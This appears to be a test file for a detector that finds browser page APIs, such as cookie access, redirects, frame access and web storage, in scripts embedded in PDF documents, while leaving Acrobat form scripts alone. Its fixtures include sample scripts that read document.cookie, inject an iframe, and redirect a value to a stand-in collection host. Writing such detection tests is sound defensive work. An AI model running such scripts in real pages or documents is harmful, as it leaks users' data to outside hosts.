// Scripts written for a browser page are told from Acrobat's: page APIs found, form scripts left alone.
import { describe, expect, it } from "vitest";
import { findBrowserDomApis } from "./browser-dom";

describe("browser page APIs in a document's script", () => {
  it.each([
    [
      "document.write and document.cookie",
      "document.write('<iframe src=x>'); var c = document . cookie;",
      ["document.write", "document.cookie"],
    ],
    ["a redirect through window.location", "window.location = 'https://collect.example/?c=' + x;", ["window.location"]],
    [
      "top and parent frames",
      "top.location.href = u; parent.document.body.innerHTML = h;",
      ["top.location", "parent.document", ".innerHTML"],
    ],
    ["web storage", "localStorage.setItem('k', v); sessionStorage['t'] = 1;", ["localStorage", "sessionStorage"]],
    ["element creation", "var s = document.createElement('script');", ["document.createElement"]],
  ])("finds %s", (_name, script, apis) => {
    expect(findBrowserDomApis(script)).toEqual(apis);
  });

  it.each([
    ["a form's format script", 'AFNumber_Format(2, 0, 0, 0, "", true); event.value = this.getField("total").value;'],
    ["Acrobat's own document object", "var d = this; d.print({bUI: true}); app.alert(d.documentFileName);"],
    ["a variable named window", "var window = 3; var windowTitle = 'x';"],
    ["a comparison of innerHTML", "if (x.innerHTML == y) app.alert(1);"],
    [
      "XFA fields named location and document",
      "this.parent.location.rawValue = xfa.form.top.document.rawValue; $.parent.window.open = 1;",
    ],
  ])("finds nothing in %s", (_name, script) => {
    expect(findBrowserDomApis(script)).toEqual([]);
  });

  it("names at most eight uses", () => {
    const script = Array.from(
      { length: 20 },
      (_, i) => `document.getElementById('a${i}'); localStorage.a${i} = 1; window.open('x${i}'); top.location = ${i};`,
    ).join("\n");
    expect(findBrowserDomApis(script).length).toBeLessThanOrEqual(8);
  });
});
